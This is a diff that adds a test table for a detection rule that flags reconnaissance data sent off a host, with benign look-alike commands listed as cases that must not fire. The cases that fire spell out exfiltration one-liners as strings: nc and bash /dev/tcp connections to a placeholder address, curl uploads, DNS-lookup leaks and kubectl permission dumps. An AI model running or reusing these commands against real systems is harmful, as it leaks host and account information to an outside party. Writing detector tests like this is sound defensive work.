@@ -1,0 +1,26 @@
+import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
+import { commandReconSend } from './recon-send.ts';
+
+indicatorTable(commandReconSend, {
+  fires: {
+    'the identity into a plain connection': script('(id; hostname) | nc -w 5 203.0.113.7 4444'),
+    'a plain connection inside the cluster': script('id | nc listener.default.svc.cluster.local 4444'),
+    'a device of bash': runs('bash', '-c', 'whoami > /dev/tcp/203.0.113.7/443'),
+    'the identity in the body of a request': script('curl -s -d "$(id)" https://collect.example.com/'),
+    'two facts in an address': script('curl "https://collect.example.com/?u=$(whoami)&k=$(uname -a | base64)"'),
+    'processes through a file': script('ps aux > /tmp/o; curl -T /tmp/o https://collect.example.com/'),
+    'in a name that is looked up': script('nslookup $(id | base64 | tr -d "=").collect.example.com'),
+    'what the account may do': script('kubectl auth can-i --list | curl --data-binary @- http://203.0.113.7/'),
+  },
+  staysSilent: {
+    'a metric with the name of the host': script('echo "jobs.$(hostname) 1" | nc graphite.example.com 2003'),
+    'the name of the node in a heartbeat': script('curl -d "node=$(uname -n)" https://hc.example.com/ping/1'),
+    'an address for a name service': script(
+      'curl "https://ddns.example.com/update?ip=$(ip -4 addr show eth0 | cut -d/ -f1)"',
+    ),
+    'the number of the user in a condition': script('[ "$(id -u)" = 0 ] || exit 1; curl https://example.com/'),
+    'the identity in the log of the job': script('id; ps aux; netstat -tln'),
+    'a request inside the cluster': script('curl -d "$(id)" http://audit.shop.svc/'),
+  },
+  cannotTell: UNSEEN,
+});
